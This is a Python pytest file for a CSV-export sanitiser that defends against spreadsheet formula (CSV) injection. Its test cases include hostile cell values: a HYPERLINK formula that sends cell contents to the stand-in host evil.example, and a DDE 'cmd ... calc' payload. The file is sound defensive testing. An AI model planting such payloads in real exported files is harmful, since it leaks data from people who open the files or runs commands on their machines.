"""CSV cells never open as formulas; numbers stay numbers (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gotong_platform.csv_cells import FORMULA_LEADS, csv_cell, write_csv

pytestmark = pytest.mark.unit

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("cell", [
    EVIL, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0",
    "\uff1dHYPERLINK(\"x\")", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
])
def test_a_formula_leading_text_gets_a_single_quote(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell
    assert _read(write_csv(["name"], [[cell]]))[1] == ["'" + cell]


@pytest.mark.parametrize("cell", ["Beras medium", "Kopi = enak", " =1", "'=1", "", "2026-01"])
def test_other_text_is_written_as_it_is(cell: str) -> None:
    assert csv_cell(cell) == cell


def test_numbers_stay_numbers_and_empty_and_bools_are_spelt_out() -> None:
    text = write_csv(["delta_idr", "growth_bp", "stale", "note"], [[-1500, -25, True, None]])
    assert _read(text)[1] == ["-1500", "-25", "true", ""]


@given(st.text())
def test_no_written_cell_starts_a_formula(text: str) -> None:
    written = _read(write_csv(["cell"], [[text]]))[1][0]
    assert written[:1] not in FORMULA_LEADS
    assert written in (text, "'" + text)
